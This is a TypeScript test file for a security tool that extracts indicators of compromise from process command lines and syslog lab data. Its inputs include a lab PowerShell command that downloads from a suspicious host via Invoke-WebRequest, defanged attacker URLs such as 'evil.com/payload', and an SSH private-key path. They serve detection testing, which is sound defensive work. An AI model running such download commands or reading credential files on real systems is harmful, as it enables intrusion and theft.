@@ -1,0 +1,267 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import pl from "nodejs-polars";
+import { QueryProvider } from "../../src/data/queryProvider";
+import { base64 } from "../../src/transform/base64Unpack";
+import { BUILTIN_IOC_TYPES, IoCExtract, IocExtractError } from "../../src/transform/iocExtract";
+import { refang } from "../../src/transform/defang";
+
+const qp = new QueryProvider("LocalData");
+const iocs = new IoCExtract();
+
+type Row = { IoCType: string; Observable: string; SourceIndex: number; Input: string };
+const rows = (df: pl.DataFrame) => df.toRecords() as unknown as Row[];
+
+// ---------------------------------------------------------------- the lab's answers
+
+test("lab: IoCs in the decoded command lines of processes_on_host.head(1000) (seed cell: microsoft.com, wh401k.org)", async () => {
+  const procs = await qp.WindowsSecurity.list_host_processes();
+  const b64 = base64.unpackDf(procs.head(1000), { column: "CommandLine" });
+  const merged = procs
+    .withRowIndex("SourceIndex")
+    .join(b64, { leftOn: "SourceIndex", rightOn: "src_index" })
+    .filter(pl.col("decoded_string").isNotNull())
+    .select("SourceIndex", "TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "decoded_string");
+  const found = rows(iocs.extract(merged, { columns: ["decoded_string"], indexColumn: "SourceIndex" }));
+  // Reference: the seed walkthrough's output of ioc_extractor.extract(data=merged_filtered, columns=['decoded_string']).
+  assert.deepEqual(
+    found.map((r) => [r.IoCType, r.Observable, r.SourceIndex]),
+    [
+      ["dns", "microsoft.com", 21],
+      ["dns", "wh401k.org", 968],
+      ["url", "http://wh401k.org/getps", 968],
+    ],
+  );
+  assert.equal(found[0].Input, "ping  microsoft.com -n 15 ");
+  assert.match(found[2].Input, /^-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http:\/\/wh401k\.org\/getps"$/);
+});
+
+test("lab: iocTypes ['url'] over syslog SyslogMessage gives exactly the seed's six unique values (URL hosts as dns)", async () => {
+  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
+  const found = iocs.extract(syslog, { columns: ["SyslogMessage"], iocTypes: ["url"] });
+  // Reference: the seed's ioc_df['Observable'].unique(), in order of first appearance.
+  assert.deepEqual(found.getColumn("Observable").unique(true).toArray(), [
+    "http://www.rsyslog.com/e/2359",
+    "www.rsyslog.com",
+    "http://www.rsyslog.com/e/2007",
+    "http://www.rsyslog.com/e/2106",
+    "http://www.microsoft.com",
+    "www.microsoft.com",
+  ]);
+  assert.deepEqual([...new Set(found.getColumn("IoCType").toArray())].sort(), ["dns", "url"]);
+  // The parity switch off: only what was asked for.
+  const strict = iocs.extract(syslog, { columns: ["SyslogMessage"], iocTypes: ["url"], urlHostAsDns: false });
+  assert.deepEqual(strict.getColumn("Observable").unique(true).toArray(), [
+    "http://www.rsyslog.com/e/2359",
+    "http://www.rsyslog.com/e/2007",
+    "http://www.rsyslog.com/e/2106",
+    "http://www.microsoft.com",
+  ]);
+  // SourceIndex points at the row the URL is in.
+  const first = rows(found)[0];
+  assert.equal(syslog.getColumn("SyslogMessage").get(first.SourceIndex), first.Input);
+  assert.ok(first.Input.includes(first.Observable));
+});
+
+test("lab bonus: dns IoCs of the decoded syslog base64 (full_decoded_string) — www.github.com at SourceIndex 9", async () => {
+  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
+  const decoded = base64.unpackDf(syslog, { column: "SyslogMessage" });
+  const found = rows(iocs.extract(decoded, { columns: ["full_decoded_string"], iocTypes: ["dns"] }));
+  // Reference: the seed's output (one row: dns www.github.com, SourceIndex 9, the tagged string).
+  assert.deepEqual(found.map((r) => [r.IoCType, r.Observable, r.SourceIndex]), [["dns", "www.github.com", 9]]);
+  assert.ok(found[0].Input.startsWith("<decoded type='string' name='[None]' index='1' depth='1'>The secret URI is www.github.com/microsoft/msticpy"));
+});
+
+test("processes_on_host: null CommandLines are empty text, SourceIndex is the row position", async () => {
+  const procs = await qp.WindowsSecurity.list_host_processes();
+  assert.ok(procs.getColumn("CommandLine").nullCount() > 0, "the lab data has null command lines");
+  const found = iocs.extract(procs, { columns: ["CommandLine"] });
+  assert.ok(found.height > 100);
+  const cmd = procs.getColumn("CommandLine");
+  for (const r of rows(found).filter((_r, i) => i % 97 === 0)) assert.equal(cmd.get(r.SourceIndex), r.Input);
+  // The injected lab indicators are there.
+  const obs = new Set(found.getColumn("Observable").toArray() as unknown as string[]);
+  for (const o of ["http://wh401k.org/getps", "wh401k.org", "ianhelle@microsoft.com", "168.63.129.16"]) assert.ok(obs.has(o), o);
+  // Deliberate difference: a word-bounded TLD, so `x.ps1` is not the Palestinian domain `x.ps`.
+  assert.ok(![...obs].some((o) => /\.ps$/i.test(o)));
+  assert.equal(found.getColumn("SourceIndex").dtype.variant, "UInt32");
+});
+
+// ---------------------------------------------------------------- types and their edges
+
+test("defanged forms are recognised and refanged", () => {
+  const r = iocs.extractText("get hxxp://evil[.]com/x then hXXps://b(.)org/y, mail bob[at]evil[.]com, c2 10[.]1[.]2[.]3, fxp://files[.]example[.]net/a");
+  assert.deepEqual(r.url, ["http://evil.com/x", "https://b.org/y", "ftp://files.example.net/a"]);
+  assert.deepEqual(r.email, ["bob@evil.com"]);
+  assert.deepEqual(r.ipv4, ["10.1.2.3"]);
+  assert.ok(r.dns.includes("evil.com") && r.dns.includes("b.org"));
+  assert.equal(refang("evil[dot]com (at) x{.}y hxxps[://]z"), "evil.com @ x.y https://z");
+  assert.equal(refang("nothing here"), "nothing here");
+});
+
+test("IPv4: octets validated, no partial numbers, no leading zeros", () => {
+  const r = iocs.extractText("1.2.3.4 256.1.1.1 999.999.999.999 1.2.3.4.5 1234.1.1.1234 v10.0.0.1 192.168.001.1 0.0.0.0 (8.8.8.8).");
+  assert.deepEqual(r.ipv4, ["1.2.3.4", "10.0.0.1", "0.0.0.0", "8.8.8.8"]);
+});
+
+test("IPv6 via a real parser: addresses yes, times and MAC addresses no", () => {
+  const r = iocs.extractText("::1 and 2001:db8::1, fe80::1%eth0, 2001:0db8:0000:0000:0000:ff00:0042:8329 at 12:34:56 from 00:1A:2B:3C:4D:5E; std::vector :: x");
+  assert.deepEqual(r.ipv6, ["::1", "2001:db8::1", "fe80::1", "2001:0db8:0000:0000:0000:ff00:0042:8329"]);
+});
+
+test("dns: public-suffix TLDs only (ICANN), whole labels, trailing dots and escapes", () => {
+  const r = iocs.extractText("Microsoft.NET cmd.exe host.local a.b evil.zip x.co.uk. foo.comx %2Fbad.org xn--80ak6aa92e.xn--p1ai a-b--c.com -bad-.com");
+  assert.deepEqual(r.dns, ["Microsoft.NET", "evil.zip", "x.co.uk", "bad.org", "xn--80ak6aa92e.xn--p1ai", "a-b--c.com"]);
+  assert.deepEqual(iocs.extractText("cmd.exe host.local", { ignoreTlds: true }).dns, ["cmd.exe", "host.local"]);
+});
+
+test("url: schemes, user info, ports, queries, trailing punctuation, URL decoding, embedded URLs", () => {
+  const r = iocs.extractText(
+    "see (http://a.com/x_(y)) and 'https://user:pw@b.org:8443/p?q=1&r=2#f', http://c.net/z. " +
+      "ftp://10.1.2.3/f http://[2001:db8::1]/v http://server/local https://d.io/r?u=https%3A%2F%2Fevil.com%2Fpayload",
+  );
+  assert.deepEqual(r.url, [
+    "http://a.com/x_(y)",
+    "https://user:pw@b.org:8443/p?q=1&r=2#f",
+    "http://c.net/z",
+    "ftp://10.1.2.3/f",
+    "http://[2001:db8::1]/v",
+    "https://d.io/r?u=https%3A%2F%2Fevil.com%2Fpayload",
+    "https://d.io/r?u=https://evil.com/payload",
+    "https://evil.com/payload",
+  ]);
+  // `user:pw@b.org` is not an e-mail address; URL hosts are dns, IP hosts are not.
+  assert.equal(r.email, undefined);
+  assert.ok(r.dns.includes("evil.com") && r.dns.includes("b.org") && !r.dns.includes("10.1.2.3"));
+  // A host that is not a real domain is not a URL (ignoreTlds accepts it).
+  assert.ok(!r.url.includes("http://server/local"));
+  assert.ok(iocs.extractText("http://server/local", { ignoreTlds: true }).url.includes("http://server/local"));
+});
+
+test("email: address shapes, key=value prefixes, TLD checked", () => {
+  const r = iocs.extractText("to=bob.smith+tag@mail.example.com, x.@y.com, a@b, admin@host.local, mailto:root@evil.org.");
+  assert.deepEqual(r.email, ["bob.smith+tag@mail.example.com", "root@evil.org"]);
+});
+
+test("hashes: exact hex-run lengths, adjacent hashes both found, hex runs of other lengths ignored", () => {
+  const md5 = "d41d8cd98f00b204e9800998ecf8427e";
+  const sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
+  const sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+  const r = iocs.extractText(`${md5} ${sha1}:${sha256} ${"a".repeat(48)} ${md5}0 ${md5.toUpperCase()},${md5.slice(1)}f`);
+  assert.deepEqual(r.md5_hash, [md5, md5.toUpperCase(), `${md5.slice(1)}f`]);
+  assert.deepEqual(r.sha1_hash, [sha1]);
+  assert.deepEqual(r.sha256_hash, [sha256]);
+});
+
+test("windows paths: spaces in folders, UNC, drive roots after NT prefixes, quotes; not in the default set", () => {
+  const text =
+    '"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe" -x \\\\server\\share\\f.txt ' +
+    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff ..\\rel\\path.dll \\x C:\\Temp\\a.exe C:\\Temp\\b.exe.";
+  assert.equal(iocs.extractText(text).windows_path, undefined);
+  assert.deepEqual(iocs.extractText(text, { includePaths: true }).windows_path, [
+    "C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe",
+    "\\\\server\\share\\f.txt",
+    "C:\\Windows\\system32\\conhost.exe",
+    "..\\rel\\path.dll",
+    "C:\\Temp\\a.exe",
+    "C:\\Temp\\b.exe",
+  ]);
+});
+
+test("linux paths: only when asked for; not inside URLs or words; flags are not paths", () => {
+  const text = "/bin/sh -c '/usr/bin/python3 /opt/x/y.py' and/or http://x.com/a/b ./run.sh /c ~/.ssh/id_rsa";
+  assert.equal(iocs.extractText(text, { includePaths: true }).linux_path, undefined);
+  assert.deepEqual(iocs.extractText(text, { iocTypes: ["linux_path"] }).linux_path, ["/bin/sh", "/usr/bin/python3", "/opt/x/y.py", "./run.sh", "~/.ssh/id_rsa"]);
+});
+
+test("priority: one string is reported once, under the most specific type", () => {
+  const x = new IoCExtract();
+  x.addIocType("ticket", /\bTKT-\d{4}\b/, 1);
+  x.addIocType("host_like", "[a-z]+\\.com", 5); // same strings as dns, lower priority → dns wins
+  const r = x.extractText("TKT-1234 example.com", { iocTypes: ["dns", "ticket", "host_like"] });
+  assert.deepEqual(r, { dns: ["example.com"], ticket: ["TKT-1234"] });
+  const hi = new IoCExtract();
+  hi.addIocType("corp_domain", /[a-z]+\.com/, 0); // higher than dns (2)
+  assert.deepEqual(hi.extractText("example.com", { iocTypes: ["dns", "corp_domain"] }), { corp_domain: ["example.com"] });
+  // Types are per instance.
+  assert.ok(!iocs.iocTypes.includes("ticket"));
+});
+
+test("user types in DataFrames, with a group and a prefilter; several columns keep row then column order", () => {
+  const x = new IoCExtract();
+  x.addIocType("ticket", /ticket=(TKT-\d+)/, 1, { group: 1, prefilter: "ticket=" });
+  const df = pl.DataFrame({
+    a: ["ticket=TKT-1 at 1.2.3.4", null, "nothing", "evil.com"],
+    b: ["evil.com", "ticket=TKT-2", null, "evil.com 5.6.7.8"],
+    n: [10, 20, 30, 40],
+  });
+  const out = rows(x.extract(df, { columns: ["a", "b"], iocTypes: ["ipv4", "dns", "ticket"], indexColumn: "n" }));
+  assert.deepEqual(
+    out.map((r) => [r.SourceIndex, r.IoCType, r.Observable, r.Input]),
+    [
+      [10, "ipv4", "1.2.3.4", "ticket=TKT-1 at 1.2.3.4"],
+      [10, "ticket", "TKT-1", "ticket=TKT-1 at 1.2.3.4"],
+      [10, "dns", "evil.com", "evil.com"],
+      [20, "ticket", "TKT-2", "ticket=TKT-2"],
+      [40, "dns", "evil.com", "evil.com"],
+      [40, "ipv4", "5.6.7.8", "evil.com 5.6.7.8"],
+      [40, "dns", "evil.com", "evil.com 5.6.7.8"],
+    ],
+  );
+});
+
+test("bulk and row-by-row scanning agree (NUL in the data, defanged rows, many rows)", () => {
+  const base = [
+    "ping 10.0.0.1 && curl http://a.com/x?u=http%3A%2F%2Fb.org%2F",
+    "mail a@b.com then user:pw@c.com via https://user:pw@d.net/",
+    "C:\\Windows\\x.exe /c /tmp/a/b 2001:db8::2",
+    "hxxp://evil[.]com/y",
+    `${"d41d8cd98f00b204e9800998ecf8427e"} ${"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`,
+    "",
+  ];
+  const many = Array.from({ length: 3000 }, (_v, i) => base[i % base.length] + (i % 7 ? "" : ` host${i}.example.org`));
+  const all = { iocTypes: BUILTIN_IOC_TYPES };
+  const expected = many.flatMap((text, row) => Object.entries(iocs.extractText(text, all)).flatMap(([type, obs]) => obs.map((o) => [row, type, o])));
+  const bulk = rows(iocs.extract(pl.DataFrame({ t: many }), { columns: "t", ...all })).map((r) => [r.SourceIndex, r.IoCType, r.Observable]);
+  assert.deepEqual(bulk, expected);
+  // A NUL in the column switches to row-by-row scanning: same answers.
+  const withNul = many.map((t, i) => (i === 5 ? "x\0y" : t));
+  const rowwise = rows(iocs.extract(pl.DataFrame({ t: withNul }), { columns: ["t"], ...all })).map((r) => [r.SourceIndex, r.IoCType, r.Observable]);
+  assert.deepEqual(rowwise, expected);
+});
+
+test("getIocType and validate classify whole values", () => {
+  assert.equal(iocs.getIocType("evil[.]com"), "dns");
+  assert.equal(iocs.getIocType("10.1.2.3"), "ipv4");
+  assert.equal(iocs.getIocType("http://a.com/x"), "url");
+  assert.equal(iocs.getIocType("d41d8cd98f00b204e9800998ecf8427e"), "md5_hash");
+  assert.equal(iocs.getIocType("cmd.exe"), "unknown");
+  assert.equal(iocs.getIocType("C:\\Windows\\x.exe"), "windows_path");
+  assert.ok(iocs.validate("example.com", "dns"));
+  assert.ok(!iocs.validate("example.com/x", "dns"));
+  assert.ok(!iocs.validate("host.local", "dns"));
+  assert.ok(iocs.validate("host.local", "dns", { ignoreTlds: true }));
+  assert.throws(() => iocs.validate("x", "dnss"), /unknown IoC type "dnss".*Did you mean dns/);
+});
+
+test("errors name what is wrong", () => {
+  const df = pl.DataFrame({ CommandLine: ["a"] });
+  assert.throws(() => iocs.extract(df, { columns: ["Commandline"] }), (e: unknown) => e instanceof IocExtractError && /"Commandline" is not in the data.*Did you mean CommandLine/.test((e as Error).message));
+  assert.throws(() => iocs.extract(df, { columns: [] }), /no columns given/);
+  assert.throws(() => iocs.extractText("x", { iocTypes: ["ipv5"] }), /Unknown IoC type "ipv5".*Did you mean ipv4, ipv6/);
+  assert.throws(() => iocs.addIocType("x", "a*"), /matches the empty string/);
+  assert.throws(() => iocs.addIocType("x", "("), /invalid pattern/);
+  assert.throws(() => iocs.extract(df, { columns: ["CommandLine"], indexColumn: "idx" }), /indexColumn "idx"/);
+});
+
+test("empty input, empty frames, non-text columns", () => {
+  assert.deepEqual(iocs.extractText(""), {});
+  assert.deepEqual(iocs.extractText(null), {});
+  const empty = iocs.extract(pl.DataFrame({ t: [] as string[] }), { columns: ["t"] });
+  assert.deepEqual(empty.columns, ["IoCType", "Observable", "SourceIndex", "Input"]);
+  assert.equal(empty.height, 0);
+  const nums = iocs.extract(pl.DataFrame({ n: [1, 2] }), { columns: ["n"] });
+  assert.equal(nums.height, 0);
+  const nulls = iocs.extract(pl.DataFrame({ t: [null, null, "8.8.8.8"] }), { columns: ["t"] });
+  assert.deepEqual(rows(nulls).map((r) => [r.SourceIndex, r.Observable]), [[2, "8.8.8.8"]]);
+});
